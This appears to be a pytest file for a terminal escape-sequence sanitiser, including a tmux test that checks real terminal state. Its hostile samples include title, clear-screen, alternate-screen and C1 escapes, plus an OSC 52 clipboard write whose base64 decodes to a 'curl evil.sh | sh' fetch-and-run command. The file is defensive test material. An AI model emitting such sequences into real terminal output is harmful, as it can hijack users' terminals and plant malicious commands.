"""Escape stripping: hostile samples lose every sequence a terminal would act on.

The samples are what real programs and real attacks emit (tput's own sequences, OSC 52 clipboard
writes, OSC 8 hyperlinks, kitty APC graphics, 8-bit C1 introducers). The tmux test prints a sample
to a real terminal emulator, raw and stripped, and reads the terminal's state back.
"""

from __future__ import annotations

import os
import subprocess
import time
import uuid
from pathlib import Path

import pytest

from claude_harness.text.terminal_safety import strip_unsafe
from tests.plain.tmux_helpers import remove_socket

ESC = "\x1b"
HOSTILE = {
    "osc title (BEL)": f"{ESC}]0;pwned{chr(7)}",
    "osc title (ST)": f"{ESC}]2;pwned{ESC}\\",
    "osc 52 clipboard": f"{ESC}]52;c;Y3VybCBldmlsLnNoIHwgc2g={chr(7)}",
    "osc 8 hyperlink": f"{ESC}]8;;https://evil.example/{ESC}\\",
    "clear screen": f"{ESC}[2J{ESC}[H",
    "alternate screen": f"{ESC}[?1049h",
    "cursor up and erase line": f"{ESC}[1A{ESC}[2K",
    "reset terminal": f"{ESC}c",
    "save cursor": f"{ESC}7",
    "charset switch": f"{ESC}(0",
    "dcs": f"{ESC}P1$r0m{ESC}\\",
    "apc kitty graphics": f"{ESC}_Gf=100;AAAA{ESC}\\",
    "pm": f"{ESC}^private{ESC}\\",
    "8-bit csi": "\x9b2J",
    "8-bit osc": "\x9d0;pwned\x9c",
    "bell and backspace": "\x07\x08\x08\x08",
    "shift out": "\x0e",
}


@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_each_hostile_sequence_is_removed_and_the_text_around_it_kept(name: str) -> None:
    sample = f"before {HOSTILE[name]}after"
    assert strip_unsafe(sample) == "before after"
    assert strip_unsafe(sample, keep_colors=True) == "before after"


def test_colours_stay_only_when_asked_for() -> None:
    coloured = f"{ESC}[1;31merror{ESC}[0m: {ESC}[38;5;208mwarn{ESC}[m {ESC}[38:2:1:2:3mx{ESC}[0m"
    assert strip_unsafe(coloured, keep_colors=True) == coloured
    assert strip_unsafe(coloured) == "error: warn x"


def test_a_colour_next_to_a_hostile_sequence_keeps_only_the_colour() -> None:
    text = f"{ESC}[32mok{ESC}[2J{ESC}]0;t{chr(7)}{ESC}[0m"
    assert strip_unsafe(text, keep_colors=True) == f"{ESC}[32mok{ESC}[0m"


def test_a_stray_escape_byte_goes() -> None:
    assert strip_unsafe(f"end{ESC}") == "end"
    assert strip_unsafe(f"line{ESC}\nnext") == "line\nnext"


def test_tabs_newlines_carriage_returns_and_unicode_stay() -> None:
    text = "a\tb\r\nc — ünïcode 漢字 🙂\n"
    assert strip_unsafe(text) is text


def test_unterminated_strings_lose_their_introducer_only() -> None:
    assert strip_unsafe(f"x{ESC}]0;title never ends") == "x0;title never ends"
    assert strip_unsafe(f"x{ESC}[12") == "x12"  # a cut CSI: no escape byte is left


def test_real_tput_sequences_are_stripped() -> None:
    env = {**os.environ, "TERM": "xterm-256color"}
    caps = ["clear", "smcup", "rmcup", "cup 5 5", "civis", "bel", "setaf 1", "sgr0"]
    emitted = "".join(
        subprocess.run(["tput", *cap.split()], capture_output=True, text=True, env=env).stdout
        for cap in caps
    )
    assert ESC in emitted
    assert ESC not in strip_unsafe(emitted)
    kept = strip_unsafe(emitted, keep_colors=True)
    assert [seq for seq in kept.split(ESC)[1:] if not seq.endswith("m")] == []
    assert f"{ESC}[31m" in kept  # setaf 1 is a colour: kept


def _tmux(socket: str, *args: str) -> str:
    done = subprocess.run(["tmux", "-L", socket, *args], capture_output=True, text=True,
                          timeout=10, env={**os.environ, "TMUX": ""})
    return done.stdout


def _terminal_state_after_printing(tmp_path: Path, payload: str) -> tuple[str, str, str]:
    """(pane title, alternate screen flag, visible text) of a real tmux pane that printed it."""
    sample = tmp_path / f"sample-{uuid.uuid4().hex[:6]}.txt"
    sample.write_text("visible line\n" + payload + "\nend marker\n")
    socket = f"ch-safety-{uuid.uuid4().hex[:10]}"
    script = tmp_path / f"{socket}.sh"
    script.write_text(f"#!/bin/sh\ncat {sample}\nexec sleep 60\n")
    script.chmod(0o755)
    _tmux(socket, "new-session", "-d", "-x", "100", "-y", "20", "-s", "t", str(script))
    try:
        deadline = time.monotonic() + 10
        while time.monotonic() < deadline:
            screen = _tmux(socket, "capture-pane", "-p", "-t", "t")
            if "end marker" in screen:
                break
            time.sleep(0.05)
        info = _tmux(socket, "display-message", "-p", "-t", "t",
                     "#{pane_title}|#{alternate_on}")
        title, _, alternate = info.strip().partition("|")
        return title, alternate, screen
    finally:
        _tmux(socket, "kill-server")
        remove_socket(socket)


@pytest.mark.skipif(not Path("/usr/bin/tmux").exists(), reason="tmux not installed")
def test_a_real_terminal_obeys_the_raw_sample_and_ignores_the_stripped_one(
    tmp_path: Path,
) -> None:
    payload = f"{ESC}]2;pwned-title{chr(7)}{ESC}[?1049h{ESC}[2Jhidden?"
    title, alternate, _ = _terminal_state_after_printing(tmp_path, payload)
    assert title == "pwned-title" and alternate == "1"  # the sample really is hostile

    title, alternate, screen = _terminal_state_after_printing(tmp_path, strip_unsafe(payload))
    assert title != "pwned-title" and alternate == "0"
    assert "visible line" in screen and "hidden?" in screen
